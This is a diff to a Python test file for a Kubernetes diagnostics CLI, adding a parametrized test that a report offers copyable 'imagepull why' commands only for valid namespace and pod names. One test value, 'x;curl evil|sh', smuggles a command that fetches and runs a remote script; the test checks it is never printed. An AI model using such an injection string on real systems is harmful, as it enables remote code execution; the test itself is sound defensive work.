@@ -3,6 +3,8 @@
 from dataclasses import replace
 from textwrap import dedent
 
+import pytest
+
 from bot.cli import report
 from bot.facts.cause import Scope
 from bot.facts.verdict import Confidence, Incident, Place, Report
@@ -173,6 +175,27 @@ def test_unchecked_is_grouped_by_what_would_change_it() -> None:
         "  ? secrets in ns-0, secrets in ns-1, secrets in ns-2, secrets in ns-3 and 12 more: forbidden\n    → tier 2a\n"
         in _sweep(reports.report(unchecked=unchecked))
     )
+
+
+@pytest.mark.parametrize(
+    ("namespace", "pod", "line"),
+    [
+        ("shop", "web-1", "imagepull why shop/web-1"),
+        ("jobs", "web-1", "imagepull why web-1 -n jobs"),
+        ("shop", "x;curl evil|sh", None),
+        ("--all", "web-1", None),
+        ("x y", "web-1", None),
+    ],
+)
+def test_sweep_leads_only_to_what_can_be_asked(namespace: str, pod: str, line: str | None) -> None:
+    """A namespace may be called like a kind; a name that no object can have is not printed for copying."""
+    found = reports.diagnosis(pod)
+    found = replace(
+        found, failure=replace(found.failure, pod=replace(found.failure.pod, namespace=namespace))
+    )
+    incident = Incident("wrong-tag", Place(Scope.NAMESPACE, namespace), Confidence.HIGH, (found,))
+    told = [each.strip() for each in _sweep(reports.report(found, incidents=(incident,))).splitlines()]
+    assert [each for each in told if each.startswith("imagepull why")] == ([line] if line else [])
 
 
 def test_hostile_text_is_inert() -> None:
